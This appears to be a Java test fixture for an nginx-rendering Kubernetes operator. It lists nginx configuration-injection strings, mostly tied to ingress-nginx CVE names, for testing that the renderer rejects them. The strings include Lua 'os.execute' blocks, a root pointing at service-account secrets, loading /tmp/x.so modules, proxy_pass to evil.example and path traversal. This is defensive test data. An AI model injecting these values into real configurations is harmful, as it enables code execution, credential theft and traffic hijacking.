package dev.webstack.operator.render.nginx;

import com.fasterxml.jackson.core.JsonPointer;
import dev.webstack.operator.render.FieldPath;
import java.util.Map;
import java.util.TreeMap;

/** Texts that took over the nginx of other operators, and others that a parser may take for something else. */
public final class Attacks {

    public static final Map<String, String> ALL = new TreeMap<>(Map.ofEntries(
            Map.entry("CVE-2021-25742: a snippet", "/a; } location /b { return 200 gotcha; } #"),
            Map.entry("CVE-2021-25745: a file of the pod", "/a; root /var/run/secrets/kubernetes.io/serviceaccount; #"),
            Map.entry("CVE-2021-25746: a path that ends the block", "/a { } location /b {"),
            Map.entry("CVE-2021-25748: a line feed before a word that is refused",
                    "/a;\n_by_lua_block { os.execute(1) }"),
            Map.entry("CVE-2022-4886: an expression that ends the block", "/a.*) { alias /etc/; } location ~ (/b"),
            Map.entry("CVE-2023-5043: a snippet with Lua", "/a} init_by_lua_block { os.execute(1) } #"),
            Map.entry("CVE-2023-5044: a redirect that ends the quotes", "/a\"; return 302 http://evil.example; #"),
            Map.entry("CVE-2024-7646: a carriage return", "/a\rreturn 200;"),
            Map.entry("CVE-2024-7646: a line feed", "/a\nreturn 200;"),
            Map.entry("CVE-2025-1097: apostrophes", "/a' ; load_module /tmp/x.so; '"),
            Map.entry("CVE-2025-1098: a name for a mirror", "a;}}ssl_engine /tmp/x.so;#"),
            Map.entry("CVE-2025-1974: a directory of another process", "/proc/self/fd/8"),
            Map.entry("CVE-2025-15566: the name of a header", "X-A \"b\"; proxy_pass http://evil.example; #"),
            Map.entry("CVE-2025-24513: a file name that leaves its directory", "/../../etc/nginx/nginx.conf"),
            Map.entry("CVE-2025-24514: an expression", "/a~* \"^/(.*)$\""),
            Map.entry("CVE-2026-1580: a method", "GET; return 200;"),
            Map.entry("CVE-2026-24512: a path with code", "/a\" { content_by_lua_block { os.execute(\"id\") } } #"),
            Map.entry("CVE-2026-3288: a backslash and a quote in a rewrite", "/a\\\" last; return 200; #"),
            Map.entry("CVE-2026-4342: the end of a comment", "/a\n} # ${name}"),
            Map.entry("CVE-2026-42945: a capture without a name", "/a(.*)$1?b"),
            Map.entry("a variable", "/a$http_authorization"),
            Map.entry("a variable in braces", "/a${request_body}"),
            Map.entry("a variable of a capture", "/$1$2"),
            Map.entry("a dollar at the end", "/a$"),
            Map.entry("a backslash that swallows the quote", "/a\\"),
            Map.entry("a backslash before a quote", "/a\\\"; return 200; \""),
            Map.entry("an escape of nginx's own", "/a\\r\\nX: b"),
            Map.entry("a NUL", "/a\0b"),
            Map.entry("a tab", "/a\tb"),
            Map.entry("a vertical tab", "/a\u000bb"),
            Map.entry("a next line", "/a\u0085b"),
            Map.entry("a line separator", "/a\u2028b"),
            Map.entry("a letter that is not ASCII", "/caf\u00e9"),
            Map.entry("half of a character", "/a\ud83d"),
            Map.entry("a comment", "/a # b"),
            Map.entry("a semicolon", "a;b"),
            Map.entry("braces", "{a}"),
            Map.entry("nothing", ""),
            Map.entry("a space", " "),
            Map.entry("dots", ".."),
            Map.entry("a word of a map", "default"),
            Map.entry("a flag of a directive", "off"),
            Map.entry("a regular expression of a name", "~^(?<a>.*)$"),
            Map.entry("another host and port", "evil.example:443/x?y#z"),
            Map.entry("more than nginx's parser holds", "/" + "a".repeat(5000))));

    private Attacks() {}

    /**
     * Whether a problem is at the field or around it, or elsewhere in the same route. Routes refer to names and host names
     * outside of them.
     */
    public static boolean isAt(FieldPath problem, JsonPointer field) {
        String path = field.toString().substring(1).replaceAll("/([0-9]+)", "[$1]").replace('/', '.')
                .replace("~1", "/");
        String part = path.startsWith("spec.routes[") ? path.substring(0, path.indexOf(']') + 1) : "spec.routes";
        return path.startsWith(problem.text()) || problem.text().startsWith(path) || problem.text().startsWith(part);
    }
}
